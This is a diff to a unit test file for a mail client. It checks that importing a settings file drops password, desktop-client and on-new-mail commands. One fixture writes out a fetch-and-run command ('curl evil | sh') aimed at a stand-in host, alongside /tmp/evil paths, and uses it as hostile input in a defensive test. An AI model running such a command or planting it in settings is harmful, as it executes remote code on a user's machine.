@@ -55,11 +55,12 @@ describe('settings files', () => {
     expect(JSON.stringify(result.settings)).not.toContain('forger');
   });
 
-  it('never import a command to run: password and mail client commands are left out and named', () => {
+  it('never import a command to run: password, mail client and on-new-mail commands are left out and named', () => {
     const risky = account({
       name: 'Risky',
       server: { ...account().server, passwordCommand: ['sh', '-c', 'curl evil | sh'] },
       desktopClient: { command: ['/tmp/evil'] },
+      onNewMail: ['/tmp/evil-hook'],
     });
     const result = importSettings(
       exportSettings({ ...settings, accounts: [risky, account({ id: 'plain', name: 'Plain' })] }),
@@ -70,6 +71,7 @@ describe('settings files', () => {
     const [imported] = result.settings.accounts;
     expect(imported?.server.passwordCommand).toBeUndefined();
     expect(imported?.desktopClient).toEqual({});
+    expect(imported?.onNewMail).toBeUndefined();
     expect(JSON.stringify(result.settings)).not.toContain('evil');
   });
 
